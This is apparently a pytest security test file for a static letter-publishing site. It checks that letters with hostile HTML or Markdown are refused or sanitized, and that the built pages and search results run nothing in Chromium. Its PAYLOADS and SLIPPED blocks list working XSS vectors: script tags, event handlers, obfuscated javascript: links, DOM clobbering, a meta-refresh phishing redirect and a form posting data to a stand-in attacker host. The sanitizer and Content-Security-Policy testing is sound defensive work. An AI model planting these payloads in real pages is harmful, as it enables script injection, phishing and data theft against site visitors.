"""Issue 9, class 2: script and off-site requests through the letter's text.

Each hostile letter carries one kind of raw HTML or Markdown an attacker (or
`docket import` of a letter the other side wrote) puts in a letter's text.
Outcome required, per letter: `docket check` refuses it naming the file and
the line, or the built page keeps the letter's text within the allowlist
(checked in the HTML) and runs nothing, loads nothing from another host, in
Chromium with and without clicks. Text that only looks like markup, such as
`<Redacted>`, must be published and stay visible.
"""

from __future__ import annotations

import re
import shutil

import pytest

from hostile import (
    EVIL,
    JS,
    MARK_END,
    MARK_START,
    HostileLetter,
    assert_none,
    body_violations,
    front,
    page_violations,
    search_results,
    visit,
    walk,
    watched_context,
)
from hostile_sites import HostileSite, base_registries, build_hostile_site

E = EVIL
# name -> the hostile part of a letter's text
PAYLOADS = {
    "script": f"<script>{JS}</script>",
    "script-split": f"<script\n>{JS}</script\n>",
    "img-onerror-split": f'<img\nsrc="x"\nonerror="{JS}">',
    "a-handler-split": f'<a href="#top"\nonclick="{JS}"\nonmouseover="{JS}">the order</a>',
    "details-ontoggle-split": f'<details open\nontoggle="{JS}"><summary>x</summary></details>',
    "input-autofocus-split": f'<input autofocus\nonfocus="{JS}">',
    "object": f'<object data="https://{E}/object.swf"></object>\n\n<object data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></object>',
    "embed": f'<embed src="https://{E}/embed.svg">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://{E}/phish">',
    "base-href": f'<base href="https://{E}/">',
    "form": f'<form action="https://{E}/steal" method="post"><input name="q" value="privileged"><button>Continue</button></form>',
    "style": f"<style>body {{ background: url(https://{E}/style.png) }} .md-header {{ display: none }}</style>",
    "link-stylesheet": f'<link rel="stylesheet" href="https://{E}/sheet.css">',
    "offsite-img": f'<img src="https://{E}/pixel.png" alt="">\n\n![seal](https://{E}/seal.png)\n\n![seal][ref]\n\n[ref]: //{E}/ref.png',
    "attr-list-paragraph": f'Please call chambers.\n{{: tabindex=0 autofocus onfocus="{JS}" }}',
    "attr-list-link": f'[the order](https://example.org/order){{: onclick="{JS}" onmouseover="{JS}" }}',
    "attr-list-heading": "## Status {: #__config onclick=alert(1) style=position:fixed;inset:0 }",
    "md-in-html": '<div markdown="1">\n\n[the order](java&#x09;script:alert(1)) and **bold**\n\n</div>',
    "config-clobber": f'<div id="__config">{{"base": "https://{E}/", "features": [], "translations": {{}}}}</div>',
    "form-clobber": '<form id="docket-search"><input id="docket-q" name="q"></form> <a id="docket-header-q">x</a>',
    "svg-onload-split": f'<svg\nonload="{JS}"><circle r="4"/></svg>',
    "svg-link": '<svg><a xlink:href="java&#x09;script:alert(1)"><text x="20" y="20">the order</text></a></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="jav&#x61;script:alert(1)">the order<mtext>x</mtext></maction></math>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;parent.window.__pwned=1;parent.alert(1)&lt;/script&gt;"></iframe>',
    "js-link-entity": "[the order](java&#x09;script:alert(1)) and [the motion](JaVaScRiPt&colon;alert(1))",
    "js-link-whitespace": '<a href="java\nscript:alert(1)">the order</a> and <a href=" &#14; javascript:alert(1)">the motion</a>',
    "js-link-reference": "[the order][o]\n\n[o]: java&#x09;script:alert(1)",
    "js-autolink": "<javascript:alert(1)> and <vbscript:msgbox(1)>",
    "data-link": "[the order](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and <a href='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'>x</a>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "style-overlay": '<span style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Session expired: sign in again</span>',
    "target-blank": '<a href="https://example.org/" target="_blank">opener</a>',
    "textarea-swallow": "<textarea>everything after this is swallowed",
    "comment-swallow": "<!-- everything after this is hidden",
    "template": "<template><img src=x onerror=alert(1)></template>",
}
# Text that only looks like markup: must be published and shown as written.
PLAIN = {
    "redacted": ("Counsel for <Redacted> and <Plaintiff> agree.", ["<Redacted>", "<Plaintiff>"]),
    "comparisons": ("Claims of 5 < 6 and 7 > 3 under AT&T's plan; a -> b.", ["5 < 6", "7 > 3", "AT&T's plan"]),
    "braces": ("The term {: as defined } applies; see section {1}.", ["{: as defined }", "{1}"]),
}
DAY = "2020-03-02"


def letters() -> list[HostileLetter]:
    made = []
    for index, (name, payload) in enumerate({**PAYLOADS, **{k: v[0] for k, v in PLAIN.items()}}.items()):
        day = f"2020-{3 + index // 28:02d}-{1 + index % 28:02d}"
        body = f"{MARK_START}\n\n{payload}\n\n{MARK_END}\n"
        made.append(HostileLetter(name, "alpha", day, front(f"Letter {name}", "alpha", day), body))
    return made


CONTROL = HostileLetter(
    "control-letter",
    "beta",
    "2020-02-01",
    front("Control letter", "beta", "2020-02-01"),
    f"{MARK_START}\n\nA benign letter with [a link](https://example.org/) and **bold** text.\n\n{MARK_END}\n",
)


@pytest.fixture(scope="module")
def text_site(tmp_path_factory) -> HostileSite:
    return build_hostile_site(
        tmp_path_factory.mktemp("text"), letters(), CONTROL, lambda root: base_registries(root, ["alpha", "beta"])
    )


def published(site: HostileSite, name: str) -> str | None:
    """The letter's built page, or None where `docket check` refused it."""
    letter = site.letters[name]
    if site.refusals.of(letter):
        return None
    return site.html(letter.url_path)


def refusal_at_the_payload(site: HostileSite, name: str) -> list[str]:
    """What is wrong with a refusal: it must name the file and a line of the hostile text."""
    letter = site.letters[name]
    messages = site.refusals.of(letter)
    lines = range(letter.payload_line, letter.payload_line + PAYLOADS[name].count("\n") + 1)
    at = [m for m in messages if letter.filename in m and any(f":{n}:" in m for n in lines)]
    return [] if at else [f"refused, but no message names {letter.filename} at lines {list(lines)}: {messages}"]


@pytest.mark.parametrize("name", PAYLOADS)
def test_letter_text_stays_within_the_allowlist(text_site: HostileSite, name: str) -> None:
    html = published(text_site, name)
    if html is None:
        assert_none({name: refusal_at_the_payload(text_site, name)}, "refusal")
        return
    found = {
        "letter's text": body_violations(html),
        "page": page_violations(html, text_site.own_scripts),
    }
    assert_none(found, f"{name}: what the letter's text put on its page")


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_after_the_hostile_text_is_lost(text_site: HostileSite, name: str) -> None:
    # An unclosed comment or <textarea> swallows the end of the letter and the page.
    html = published(text_site, name)
    if html is None:
        return
    text = " ".join("".join(walk(html).text_in_body).split())
    assert MARK_START in text and MARK_END in text


@pytest.mark.parametrize("name", PLAIN)
def test_text_that_looks_like_markup_is_shown(text_site: HostileSite, name: str) -> None:
    html = published(text_site, name)
    assert html is not None, f"refused: {text_site.refusals.of(text_site.letters[name])}"
    text = " ".join("".join(walk(html).text_in_body).split())
    for visible in PLAIN[name][1]:
        assert visible in text


def test_the_control_letter_keeps_its_link_and_bold(text_site: HostileSite) -> None:
    # The allowlist is not "remove everything": a letter keeps links and emphasis.
    html = text_site.html(CONTROL.url_path)
    assert body_violations(html) == []
    assert re.search(r'<a [^>]*href="https://example.org/"', html) and "<strong>bold</strong>" in html


@pytest.fixture(scope="module")
def site_url(text_site: HostileSite):
    from conftest import serve

    base, stop = serve(text_site.site)
    yield base
    stop()


@pytest.fixture(scope="module")
def watched(browser, site_url: str):
    context, watch = watched_context(browser, site_url)
    tab = context.new_page()
    yield tab, watch
    context.close()


@pytest.mark.browser
@pytest.mark.parametrize("name", [*PAYLOADS, *PLAIN])
def test_letter_page_runs_nothing_in_chromium(text_site: HostileSite, watched, site_url: str, name: str) -> None:
    if published(text_site, name) is None:
        return  # refused: never published (the refusal is tested above)
    tab, watch = watched
    # ?highlight= makes the site's own script load the search's word module from
    # the root that __config names: a clobbered __config would send it off-site.
    url = f"{site_url}/{text_site.letters[name].url_path}?highlight=mediation"
    found = visit(tab, watch, url)
    assert_none({name: found}, "what the letter's page did in Chromium")


# -- the second line: the page's policy -----------------------------------------


SLIPPED = f"""
<p id="slipped">Raw HTML a sanitizer missed:</p>
<script>{JS}</script>
<img src="x" onerror="{JS}">
<img src="https://{E}/slipped.png" alt="">
<base href="https://{E}/">
<object data="https://{E}/slipped.swf"></object>
<form id="slipped-form" action="https://{E}/steal" method="get"><input name="q" value="privileged"></form>
<link rel="stylesheet" href="https://{E}/slipped.css">
"""


@pytest.mark.browser
def test_the_pages_policy_stops_what_a_sanitizer_misses(text_site: HostileSite, watched, site_url: str) -> None:
    """Defence in depth: raw HTML pasted into a built page (as a sanitizer bug
    would let through) must neither run nor reach another host, because every
    page carries a Content-Security-Policy limiting scripts, images, styles,
    objects, <base> and form targets to the site itself."""
    tab, watch = watched
    source = text_site.site / CONTROL.url_path / "index.html"
    html = source.read_text("utf-8")
    slipped = source.parent.parent / "slipped-page"
    shutil.copytree(source.parent, slipped, dirs_exist_ok=True)
    marker = '<div class="docket-letter">'
    assert marker in html
    (slipped / "index.html").write_text(html.replace(marker, marker + SLIPPED, 1), "utf-8")
    url = f"{site_url}/{CONTROL.url_path.rsplit('/', 2)[0]}/slipped-page/"
    # the slipped form's action attribute names the other host; what counts is
    # whether it can submit there, tried below
    found = [f for f in visit(tab, watch, url) if not f.startswith("a form submits to")]
    # A form that slipped through submits nowhere else (form-action). The
    # submission is tried in a tab of its own, closed afterwards: a tab whose
    # navigation the policy refused has been seen to hang the next goto. The
    # test waits for the browser's own report of the refusal (the
    # securitypolicyviolation event), not for time to pass; had the form
    # submitted, the page would be gone and evaluate would fail.
    form_tab = tab.context.new_page()
    try:
        form_tab.goto(url, wait_until="load")
        watch.clear()
        refused = form_tab.evaluate(_SUBMIT_AND_WAIT_FOR_THE_POLICY)
        found += [f"form submission: {f}" for f in watch.findings()]
    finally:
        form_tab.close()
    assert refused == "form-action", refused
    assert_none({"page with slipped HTML": found}, "what raw HTML did despite the page's policy")


_SUBMIT_AND_WAIT_FOR_THE_POLICY = """() => new Promise(resolve => {
    document.addEventListener("securitypolicyviolation", event => {
        if (event.effectiveDirective === "form-action") resolve(event.effectiveDirective);
    });
    document.getElementById("slipped-form").submit();
})"""


@pytest.mark.browser
@pytest.mark.parametrize("query", ["onerror", "script", "Redacted", "javascript", "hostile"])
def test_search_results_show_letter_text_as_text(watched, site_url: str, query: str) -> None:
    # The search page shows an excerpt of each letter around the words found:
    # a letter's text that looks like markup must stay text there too.
    tab, watch = watched
    count, found = search_results(tab, watch, site_url, query)
    assert count > 0, f"no result for {query!r}: the test would prove nothing"
    assert_none({query: found}, "what the search results did in Chromium")
